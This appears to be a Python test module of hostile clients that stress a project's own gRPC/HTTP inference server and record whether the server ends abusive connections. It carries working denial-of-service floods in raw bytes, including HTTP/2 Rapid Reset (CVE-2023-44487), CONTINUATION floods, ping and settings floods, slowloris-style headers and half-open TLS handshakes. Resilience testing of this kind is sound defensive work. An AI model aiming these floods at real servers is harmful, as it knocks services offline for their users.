"""Floods: clients that mean harm, each with the least that it needs, in raw bytes. Standard library only.

A case does its worst to a running server and returns what became of the offender's connections: a dictionary of
figures, in which `ended` counts the connections that the server ended. `test_floods.py` runs them small, as part of
the clients' tests; `benches/floods.py` runs them large and writes docs/floods.md.
"""

import contextlib
import json
import resource
import select
import socket
import ssl
import struct
import threading
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, CONTINUATION = 0, 1, 3, 4, 6, 7, 9
END_STREAM, ACK, END_HEADERS = 1, 1, 4
HEALTH = "/grpc.health.v1.Health/Check"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def literal(name, value):
    """A header as it is, neither compressed nor remembered (RFC 7541, 6.2.2)."""
    name, value = name.encode(), value.encode()
    assert len(name) < 127 and len(value) < 127 + 128 + (1 << 21)
    return b"\x00" + length(len(name)) + name + length(len(value)) + value


def length(count):
    """An integer of a 7-bit prefix (RFC 7541, 5.1)."""
    if count < 127:
        return bytes([count])
    out, rest = [127], count - 127
    while rest >= 128:
        out.append(rest % 128 | 128)
        rest //= 128
    return bytes([*out, rest])


def call_headers(path, *more):
    head = b"\x83\x86" + literal(":path", path) + literal(":authority", "ferry")
    return head + literal("content-type", "application/grpc") + literal("te", "trailers") + b"".join(more)


def connect(address, timeout=20.0):
    host, _, port = address.removeprefix("http://").rpartition(":")
    return socket.create_connection((host, int(port)), timeout)


class Http2:
    """A connection that speaks HTTP/2 as badly as it is told to."""

    def __init__(self, address):
        self.socket = connect(address)
        self.socket.sendall(PREFACE + frame(SETTINGS, 0, 0))
        self.received, self.next_stream, self.goaway = b"", 1, None

    def __enter__(self):
        return self

    def __exit__(self, *_):
        self.socket.close()

    def stream(self):
        self.next_stream += 2
        return self.next_stream - 2

    def send(self, content):
        """Sends as far as the other side lets; False once it has ended the connection."""
        try:
            self.socket.sendall(content)
        except (ConnectionError, TimeoutError):
            return False
        return True

    def read_frame(self):
        """The next frame as (kind, flags, stream, payload); None at the end."""
        while len(self.received) < 9 or len(self.received) < 9 + int.from_bytes(self.received[:3]):
            try:
                piece = self.socket.recv(1 << 16)
            except ConnectionError:
                return None
            if not piece:
                return None
            self.received += piece
        size = int.from_bytes(self.received[:3])
        kind, flags, stream = struct.unpack(">BBI", self.received[3:9])
        payload, self.received = self.received[9 : 9 + size], self.received[9 + size :]
        if kind == GOAWAY:
            self.goaway = int.from_bytes(payload[4:8])
        if kind == SETTINGS and not flags & ACK:
            self.send(frame(SETTINGS, ACK, 0))
        return kind, flags, stream, payload

    def has_ended(self, seconds):
        """Whether the server ends the connection within so long."""
        until = time.monotonic() + seconds
        while (left := until - time.monotonic()) > 0:
            self.socket.settimeout(left)
            try:
                if self.read_frame() is None:
                    return True
            except TimeoutError:
                return False
        return False

    def call(self, path, message=b""):
        """A unary call; its answer's message."""
        stream = self.stream()
        body = b"\x00" + struct.pack(">I", len(message)) + message
        self.socket.sendall(frame(HEADERS, END_HEADERS, stream, call_headers(path)) + frame(DATA, END_STREAM, stream, body))
        answer = b""
        while (told := self.read_frame()) is not None:
            kind, flags, at, payload = told
            if at == stream and kind == DATA:
                answer += payload
            if at == stream and (kind == RST_STREAM or flags & END_STREAM):
                return answer[5:]
        raise ConnectionError("the connection ended before the answer")


class Neighbours:
    """Who is served meanwhile: health over gRPC and embeddings over HTTP, each on new connections and on one that is
    kept. Times are in ms; `failures` must stay empty."""

    def __init__(self, server, pause_s=0.01):
        self.server, self.pause_s = server, pause_s
        self.times = {"gRPC, kept": [], "gRPC, new": [], "HTTP, kept": [], "HTTP, new": []}
        self.failures = []
        self.over = threading.Event()
        self.threads = [threading.Thread(target=self.run, args=(name,), daemon=True) for name in self.times]

    def __enter__(self):
        for thread in self.threads:
            thread.start()
        return self

    def __exit__(self, *_):
        self.over.set()
        for thread in self.threads:
            thread.join()

    def run(self, name):
        ask = self.health if name.startswith("gRPC") else self.embed
        kept = None
        while not self.over.is_set():
            began = time.perf_counter()
            try:
                kept = ask(kept)
            except (OSError, ValueError, AssertionError) as error:
                self.failures.append(f"{name}: {error!r}")
                kept = None
            self.times[name].append((time.perf_counter() - began) * 1e3)
            if name.endswith("new") and kept is not None:
                kept.close() if isinstance(kept, socket.socket) else kept.socket.close()
                kept = None
            self.over.wait(self.pause_s)

    def health(self, kept):
        kept = kept or Http2(self.server["grpc"])
        assert kept.call(HEALTH) == b"\x08\x01", "not serving"
        return kept

    def embed(self, kept):
        kept = kept or connect(self.server["http"])
        body = json.dumps({"model": self.server["model"], "input": "All aboard!"}).encode()
        kept.sendall(b"POST /v1/embeddings HTTP/1.1\r\nhost: f\r\ncontent-length: %d\r\n\r\n" % len(body) + body)
        answer = b""
        while b"\r\n\r\n" not in answer:
            answer += received(kept)
        head, _, rest = answer.partition(b"\r\n\r\n")
        assert b" 200 " in head.split(b"\r\n")[0], head[:100]
        size = next(int(line.split(b":")[1]) for line in head.split(b"\r\n") if line.lower().startswith(b"content-length"))
        while len(rest) < size:
            rest += received(kept)
        return kept

    def p99(self):
        return {name: sorted(times)[int(len(times) * 0.99)] for name, times in self.times.items() if times}


def received(of):
    piece = of.recv(1 << 16)
    if not piece:
        raise ConnectionError("the connection ended")
    return piece


def ended(sockets, seconds):
    """How many of these connections the server ends within so long."""
    left, until, count = {one.fileno(): one for one in sockets}, time.monotonic() + seconds, 0
    poll = select.poll()
    for number in left:
        poll.register(number, select.POLLIN)
    while left and (rest := until - time.monotonic()) > 0:
        for number, _ in poll.poll(rest * 1e3):
            try:
                piece = left[number].recv(1 << 16)
            except ConnectionError:
                piece = b""
            except BlockingIOError:
                continue
            if not piece:
                poll.unregister(number)
                del left[number]
                count += 1
    return count


def close(sockets):
    for one in sockets:
        with contextlib.suppress(OSError):
            one.close()


def allow_descriptors(count):
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if soft < count:
        resource.setrlimit(resource.RLIMIT_NOFILE, (min(count, hard), hard))


def rapid_reset(server, calls):
    """Calls that are taken back as soon as they are made (CVE-2023-44487)."""
    with Http2(server["grpc"]) as client:
        sent = 0
        for _ in range(0, calls, 100):
            burst = b""
            for _ in range(100):
                stream = client.stream()
                burst += frame(HEADERS, END_HEADERS, stream, call_headers(HEALTH)) + frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
            if not client.send(burst):
                break
            sent += 100
        return {"calls sent": sent, "connections": 1, "ended": int(client.has_ended(5)), "GOAWAY": client.goaway}


def continuation(server, mebibytes):
    """Headers that never end, over more and more CONTINUATION frames (CVE-2024-27316)."""
    with Http2(server["grpc"]) as client:
        client.send(frame(HEADERS, 0, client.stream(), call_headers(HEALTH)))
        piece = b"".join(frame(CONTINUATION, 0, 1, literal(f"x-{at}", "y" * 100)) for at in range(64))
        sent = 0
        while sent < mebibytes << 20 and client.send(piece):
            sent += len(piece)
        return {"KiB sent": sent >> 10, "connections": 1, "ended": int(client.has_ended(5)), "GOAWAY": client.goaway}


def empty_continuation(server, frames):
    """The same with empty frames, which cost nothing of any limit on bytes."""
    with Http2(server["grpc"]) as client:
        client.send(frame(HEADERS, 0, client.stream(), call_headers(HEALTH)))
        sent = 0
        while sent < frames and client.send(frame(CONTINUATION, 0, 1) * 1000):
            sent += 1000
        return {"frames sent": sent, "connections": 1, "ended": int(client.has_ended(5)), "GOAWAY": client.goaway}


def unread(server, what, mebibytes):
    """Frames that ask for an answer, sent by a client that reads none. The server may stop reading such a client;
    what it may not do is to keep the answers."""
    with Http2(server["grpc"]) as client:
        client.socket.settimeout(2)
        piece, sent = what * 1000, 0
        while sent < mebibytes << 20 and client.send(piece):
            sent += len(piece)
        return {"KiB taken": sent >> 10, "connections": 1, "ended": 0, "stopped reading": sent < mebibytes << 20}


def pings(server, mebibytes):
    return unread(server, frame(PING, 0, 0, b"12345678"), mebibytes)


def settings(server, mebibytes):
    return unread(server, frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)), mebibytes)


def wide_headers(server):
    """Headers beyond what is taken in, over both protocols."""
    with Http2(server["grpc"]) as client:
        block = call_headers(HEALTH, *(literal(f"x-{at}", "y" * 100) for at in range(400)))
        client.send(frame(HEADERS, 0, client.stream(), block[:16000]))
        for at in range(16000, len(block), 16000):
            client.send(frame(CONTINUATION, END_HEADERS if at + 16000 >= len(block) else 0, 1, block[at : at + 16000]))
        refused = client.has_ended(1) or client.goaway is not None
        over_http2 = "ended" if refused else "answered"
    one = connect(server["http"])
    with contextlib.suppress(ConnectionError):
        one.sendall(b"GET /health/live HTTP/1.1\r\nhost: f\r\nx-wide: " + b"y" * (1 << 20))
    head = b""
    with contextlib.suppress(ConnectionError):
        head = one.recv(1 << 16)
    gone = ended([one], 5)
    one.close()
    return {"over HTTP/2": over_http2, "over HTTP/1": head.split(b"\r\n")[0].decode(), "connections": 1, "ended": gone}


def wide_message(server):
    """Messages that say they are 4 GiB, of which nothing comes."""
    clients = [Http2(server["grpc"]) for _ in range(50)]
    for client in clients:
        stream = client.stream()
        client.send(frame(HEADERS, END_HEADERS, stream, call_headers("/ferry.v1.Inference/Embed")))
        client.send(frame(DATA, 0, stream, b"\x00\xff\xff\xff\xff"))
    answered = 0
    for client in clients:
        client.socket.settimeout(5)
        with contextlib.suppress(TimeoutError):
            while (told := client.read_frame()) is not None:
                if told[2] == 1 and (told[0] == RST_STREAM or told[1] & END_STREAM):
                    answered += 1
                    break
    close(client.socket for client in clients)
    return {"calls": len(clients), "refused": answered, "connections": 0, "ended": 0}


def malformed(server, count):
    """Messages and bodies that are none."""
    bodies = [b"\xff" * 64, b"\x0a\xff\xff\xff\xff\x0f", b"", b"\x80" * 11, b"\x0a\x03\x0a\x01"]
    refused = 0
    with Http2(server["grpc"]) as client:
        for at in range(count):
            refused += client.call("/ferry.v1.Inference/Embed", bodies[at % len(bodies)]) == b""
    texts = [b"{", b"[" * 100_000, b'{"input":' + b'"\\ud800"}', b"\x00" * 99, b'{"model":1e999}']
    with contextlib.closing(connect(server["http"])) as one:
        for at in range(count):
            body = texts[at % len(texts)]
            one.sendall(b"POST /v1/embeddings HTTP/1.1\r\nhost: f\r\ncontent-length: %d\r\n\r\n" % len(body) + body)
            answer = b""
            while b"\r\n\r\n" not in answer or b"}" not in answer.split(b"\r\n\r\n", 1)[1][-3:]:
                answer += received(one)
            refused += b" 400 " in answer.split(b"\r\n")[0]
    return {"sent": 2 * count, "refused": refused, "connections": 0, "ended": 0}


def slow_heads(server, clients, seconds):
    """Requests of which a letter comes now and then."""
    sockets = [connect(server["http"]) for _ in range(clients)]
    for one in sockets:
        one.sendall(b"GET /health/live HTTP/1.1\r\nx: ")
        one.setblocking(False)
    gone, until = 0, time.monotonic() + seconds
    while time.monotonic() < until:
        for one in sockets:
            with contextlib.suppress(OSError):
                one.send(b"y")
        time.sleep(0.5)
    gone = ended(sockets, 0.5)
    close(sockets)
    return {"connections": clients, "ended": gone, "seconds": seconds}


def silent(server, where, clients, seconds):
    """Connections that say nothing."""
    sockets = [connect(server[where]) for _ in range(clients)]
    for one in sockets:
        one.setblocking(False)
    gone = ended(sockets, seconds)
    close(sockets)
    return {"connections": clients, "ended": gone, "seconds": seconds}


def half_open_tls(server, clients, seconds):
    """Handshakes that begin and never end."""
    hello = ssl.MemoryBIO()
    context = ssl.create_default_context()
    began = context.wrap_bio(ssl.MemoryBIO(), hello, server_hostname="localhost")
    with contextlib.suppress(ssl.SSLWantReadError):
        began.do_handshake()
    first = hello.read()
    sockets = [connect(server["tls"]) for _ in range(clients)]
    for at, one in enumerate(sockets):
        # Half of a greeting, a whole one whose answer is never acknowledged, and none.
        one.sendall((first[: len(first) // 2], first, b"")[at % 3])
        one.setblocking(False)
    gone = ended(sockets, seconds)
    close(sockets)
    return {"connections": clients, "ended": gone, "seconds": seconds}


def idle(server, connections):
    """Connections that have been served and stay; half over HTTP, half over gRPC."""
    allow_descriptors(connections + 256)
    # So that each has been looked at when the first is asked for again.
    sockets = []
    for at in range(connections):
        if at % 2:
            sockets.append(Http2(server["grpc"]).socket)
        else:
            one = connect(server["http"])
            one.sendall(b"GET /health/live HTTP/1.1\r\nhost: f\r\n\r\n")
            sockets.append(one)
    for one in sockets:
        one.settimeout(30)
        with contextlib.suppress(OSError):
            one.recv(1 << 12)
    return sockets


def streams(server, count, per_connection=1000):
    """Bidirectional streams that are all open at a time, each of which has had an answer."""
    text = b"\x0a\x05small"
    model = server["model"].encode()
    options = b"\x0a" + bytes([len(model) + 2]) + b"\x0a" + bytes([len(model)]) + model
    embed = options + b"\x12" + bytes([len(text) - 2]) + text[2:]
    message = server["stream_request"](embed)
    body = b"\x00" + struct.pack(">I", len(message)) + message
    clients, opened = [], 0
    while opened < count:
        client = Http2(server["grpc"])
        # Answers are small; windows need no updates.
        for _ in range(min(per_connection, count - opened)):
            stream = client.stream()
            client.send(frame(HEADERS, END_HEADERS, stream, call_headers("/ferry.v1.Inference/Stream")) + frame(DATA, 0, stream, body))
            opened += 1
        clients.append(client)
    answered = 0
    for client in clients:
        client.socket.settimeout(120)
        wanted = (client.next_stream - 1) // 2
        seen = set()
        with contextlib.suppress(TimeoutError):
            while len(seen) < wanted and (told := client.read_frame()) is not None:
                if told[0] == DATA and told[3]:
                    seen.add(told[2])
                    # Answers take from the connection's window, which has to be given back.
                    client.send(frame(8, 0, 0, struct.pack(">I", len(told[3]))))
        answered += len(seen)
    return clients, answered


def vanish(server, clients):
    """Clients of a stream of events that are gone after the first."""
    body = json.dumps({"model": server["decoder"], "prompt": "All aboard", "max_tokens": 100, "ignore_eos": True, "stream": True}).encode()
    gone = 0
    for _ in range(clients):
        one = connect(server["http"])
        one.sendall(b"POST /v1/completions HTTP/1.1\r\nhost: f\r\ncontent-length: %d\r\n\r\n" % len(body) + body)
        if b" 200 " in received(one).split(b"\r\n")[0]:
            gone += 1
        # With a reset, as a process that is killed leaves.
        one.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        one.close()
    return {"clients": clients, "began": gone, "connections": 0, "ended": 0}
